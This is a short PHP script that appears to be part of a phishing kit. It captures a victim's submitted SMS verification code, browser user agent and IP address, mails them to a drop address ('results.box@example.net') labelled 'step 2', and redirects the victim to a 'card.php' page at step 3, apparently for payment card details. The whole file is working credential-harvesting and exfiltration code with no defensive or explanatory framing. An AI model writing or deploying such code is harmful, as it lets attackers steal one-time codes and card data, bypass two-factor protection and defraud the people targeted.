<?php
$body  = "SMS code : " . $_POST['code'] . "\r\n";
$body .= "Browser  : " . $_SERVER['HTTP_USER_AGENT'] . "\r\n";
$body .= "IP       : " . $_SERVER['REMOTE_ADDR'] . "\r\n";
mail('results.box@example.net', 'step 2', $body);
$next = './card.php?step=3';
header("Location: $next");
